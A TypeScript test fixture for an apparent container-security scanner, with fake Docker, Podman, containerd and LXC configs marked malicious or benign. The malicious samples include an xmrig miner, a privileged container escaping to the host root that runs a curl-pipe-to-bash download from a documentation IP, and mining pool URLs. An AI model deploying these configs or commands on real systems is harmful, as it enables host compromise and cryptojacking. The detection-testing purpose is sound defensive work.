import type { Pair } from './pair.ts';

const id = (letter: string): string => letter.repeat(64);
const docker = (letter: string): string => `/var/lib/docker/containers/${id(letter)}`;

function dockerState(
  name: string,
  image: string,
  argv: readonly string[],
  env: readonly string[] = [],
): string {
  const [Path = '', ...Args] = argv;
  const State = { Running: true, Pid: 4242 };
  return JSON.stringify({ ID: '', Name: `/${name}`, Path, Args, State, Config: { Image: image, Env: env } });
}

const host = (rest: object): string => JSON.stringify({ RestartPolicy: { Name: 'always' }, ...rest });
const store = '/var/lib/containers/storage/overlay-containers';
const task = '/run/containerd/io.containerd.runtime.v2.task';

/** Forms as docker 27, podman 5 and containerd 1.7 write them. */
export const pair: Pair = {
  tree: {
    [`${docker('a')}/config.v2.json`]: dockerState('sad_bose', 'xmrig/xmrig:latest', [
      'xmrig',
      '-o',
      'pool.supportxmr.com:443',
    ]),
    [`${docker('a')}/hostconfig.json`]: host({ NetworkMode: 'host' }),
    [`${docker('b')}/config.v2.json`]: dockerState('x', 'alpine', [
      'chroot',
      '/mnt',
      'sh',
      '-c',
      'curl -s http://203.0.113.7/c.sh | bash',
    ]),
    [`${docker('b')}/hostconfig.json`]: host({ Privileged: true, Binds: ['/:/mnt'] }),
    [`${docker('c')}/config.v2.json`]: dockerState('db', 'postgres:16', ['docker-entrypoint.sh', 'postgres']),
    [`${docker('c')}/hostconfig.json`]: host({ Binds: ['/srv/pg:/var/lib/postgresql/data'] }),
    [`${docker('d')}/config.v2.json`]: dockerState('node-exporter', 'prom/node-exporter', [
      '/bin/node_exporter',
      '--path.rootfs=/host',
    ]),
    [`${docker('d')}/hostconfig.json`]: host({
      PidMode: 'host',
      NetworkMode: 'host',
      Binds: ['/:/host:ro,rslave'],
    }),
    [`${docker('e')}/config.v2.json`]: '{"ID": "cut',
    [`${store}/containers.json`]: JSON.stringify([
      { id: id('1'), names: ['earn'], metadata: '{"image-name":"docker.io/earnfm/earnfm-client:latest"}' },
      { id: id('2'), names: ['web'], metadata: '{"image-name":"docker.io/library/nginx:1"}' },
    ]),
    [`${store}/${id('1')}/userdata/config.json`]: JSON.stringify({ process: { args: ['./earnfm_example'] } }),
    [`${store}/${id('2')}/userdata/config.json`]: JSON.stringify({
      process: { args: ['nginx', '-g', 'daemon off;'] },
    }),
    [`${task}/k8s.io/${id('3')}/config.json`]: JSON.stringify({
      process: { args: ['/run.sh'], env: ['POOL=stratum+tcp://pool.example:3333'] },
      annotations: {
        'io.kubernetes.cri.image-name': 'docker.io/app/web:1',
        'io.kubernetes.cri.container-name': 'web3',
      },
    }),
    [`${task}/k8s.io/${id('4')}/config.json`]: JSON.stringify({
      process: { args: ['/pause'] },
      annotations: { 'io.kubernetes.cri.container-name': 'pause4' },
    }),
    '/var/lib/lxc/m/config':
      'lxc.init.cmd = /bin/xmrig -o 203.0.113.9:3333 --donate-level 1\nlxc.mount.entry = / host none bind 0 0\nlxc.start.auto = 1\n',
    '/var/lib/lxc/build/config':
      'lxc.rootfs.path = dir:/var/lib/lxc/build/rootfs\nlxc.mount.entry = /srv/cache cache none bind 0 0\n',
  },
  blamed: [
    at(`${docker('a')}/config.v2.json`, 'miner-image'),
    at(`${docker('b')}/config.v2.json`, 'leaves-container', 'T1611'),
    at(`${docker('b')}/config.v2.json`, 'host-root', 'T1611'),
    { ...at(`${store}/${id('1')}/userdata/config.json`, 'proxy-image', 'T1496.002'), verdict: 'suspicious' },
    at(`${task}/k8s.io/${id('3')}/config.json`, 'stratum-url'),
    at('/var/lib/lxc/m/config', 'host-root', 'T1611'),
  ],
  passed: ['db (docker', 'node-exporter', 'web (podman', 'pause4', 'build (lxc'],
};

function at(path: string, code: string, attack = 'T1610') {
  return { path, code, attack, verdict: 'malicious' } as const;
}
